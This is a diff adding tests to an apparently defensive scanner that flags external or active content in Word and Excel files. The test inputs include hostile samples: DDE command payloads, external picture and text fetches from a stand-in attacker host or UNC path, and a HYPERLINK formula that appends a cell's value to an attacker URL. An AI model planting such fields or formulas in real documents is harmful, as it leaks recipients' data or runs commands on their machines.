@@ -65,6 +65,29 @@ describe('a file of Word', () => {
     expect(activeInOffice(minutes({}, field(' PAGE ') + wordParagraph('DDEAUTO cmd')))).toEqual([]);
   });
 
+  it('is told to fetch pictures, frames and text from elsewhere, not those on the disk of its writer', () => {
+    for (const [type, told] of [
+      ['image', 'external pictures'],
+      ['frame', 'external frames'],
+      ['aFChunk', 'external text'],
+    ] as const) {
+      const inDocument = (target: string) =>
+        activeInOffice(minutes({ 'word/_rels/document.xml.rels': relation(type, target) }));
+      expect(inDocument('https://evil.example/a')).toEqual([told]);
+      expect(inDocument('file:///\\\\10.0.0.1\\a')).toEqual([told]);
+      for (const own of ['file:///C:\\Users\\a.png', 'file:///home/a/a.png', 'media/a.png'])
+        expect([own, inDocument(own)]).toEqual([own, []]);
+    }
+    const field = (instruction: string) =>
+      activeInOffice(minutes({}, `<w:p><w:fldSimple w:instr="${instruction}"><w:r/></w:fldSimple></w:p>`));
+    expect(field(' INCLUDEPICTURE &quot;http://evil.example/a.png&quot; \\d ')).toEqual([
+      'external pictures',
+    ]);
+    expect(field(' includetext http://evil.example/a.docx ')).toEqual(['external text']);
+    expect(field(' INCLUDEPICTURE &quot;C:\\\\a.png&quot; ')).toEqual([]);
+    expect(field(' HYPERLINK &quot;http://evil.example&quot; ')).toEqual([]);
+  });
+
   it('is taken, and told in three languages', async () => {
     const { notice, blocks } = await readDocumentFile(
       minutes({
@@ -103,9 +126,17 @@ describe('a workbook', () => {
       ['cmd|&apos;/c calc&apos;!A0', 'DDE'],
       ['cmd|&#39;/c calc&#39;!_x', 'DDE'],
       ['RTD("prog.id",,"a")', 'RTD'],
+      ['_xlfn.IMAGE(&quot;http://evil.example/a.png&quot;)', 'IMAGE'],
+      ['HYPERLINK(&quot;http://evil.example/?&quot;&amp;A2,&quot;open&quot;)', 'HYPERLINK'],
     ] as const)
       expect([formula, activeInOffice(withFormula(formula))]).toEqual([formula, [what]]);
-    for (const formula of ['SUM(A1:A2)', '"WEBSERVICE(a)"&amp;"cmd|a!b"', "'A|B'!A1", 'MYWEBSERVICE(1)'])
+    for (const formula of [
+      'SUM(A1:A2)',
+      '"WEBSERVICE(a)"&amp;"cmd|a!b"',
+      "'A|B'!A1",
+      'MYWEBSERVICE(1)',
+      'HYPERLINK("http://a.example/?a=1&amp;b=2","more"&amp;A2)',
+    ])
       expect([formula, activeInOffice(withFormula(formula))]).toEqual([formula, []]);
   });
 
